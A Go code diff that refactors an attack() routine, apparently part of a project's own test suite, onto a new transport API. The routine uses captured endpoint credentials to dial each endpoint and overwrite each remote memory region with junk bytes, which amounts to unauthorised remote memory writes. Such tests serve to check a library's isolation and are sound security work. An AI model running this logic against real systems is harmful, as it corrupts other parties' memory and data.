@@ -22,6 +22,7 @@ import (
 	"github.com/goccl/goccl/job/bootstrap"
 	"github.com/goccl/goccl/test/testutil"
 	"github.com/goccl/goccl/transport"
+	"github.com/goccl/goccl/transport/link"
 	"github.com/goccl/goccl/transport/tcp"
 	"github.com/goccl/goccl/transport/wire"
 )
@@ -197,11 +198,11 @@ func attack() error {
 	fmt.Printf("heard %d endpoints and %d memories\n", len(endpoints), len(memories))
 
 	// 1. Use the captured secrets to write.
-	node, err := tcp.Listen(netip.MustParseAddrPort("10.207.0.1:0"), tcp.Options{Timeout: 5 * time.Second})
+	port, err := tcp.NewNet(tcp.NetOptions{Timeout: 5 * time.Second}).OpenAt(netip.MustParseAddr("10.207.0.1"))
 	if err != nil {
 		return err
 	}
-	defer func() { _ = node.Close() }()
+	defer func() { _ = port.Close() }()
 	junk := bytes.Repeat([]byte{0xee}, 4096)
 	dev, err := host.Open(0)
 	if err != nil {
@@ -214,10 +215,12 @@ func attack() error {
 	copy(device.Bytes(a.Ptr(), 4096), junk)
 	for _, e := range endpoints {
 		for _, m := range memories {
-			l, err := node.Dial(context.Background(), e.addr, e.cred, 99, tcp.LinkOptions{Source: dev})
+			l, err := link.Dial(context.Background(), port, func(ctx context.Context, request []byte) ([]byte, error) {
+				return port.Exchange(ctx, e.addr, e.cred, 99, request)
+			}, link.Options{Source: dev})
 			if err == nil {
-				_ = errors.Join(l.Write(transport.Remote{Region: m.origin.region}, a.Ptr(), 4096), l.Flush(context.Background()),
-					l.Close())
+				_ = errors.Join(l.Import(m.origin.name, m.origin.keys[Ethernet]),
+					l.Write(transport.Remote{Region: m.origin.name}, a.Ptr(), 4096), l.Flush(context.Background()), l.Close())
 			}
 		}
 	}
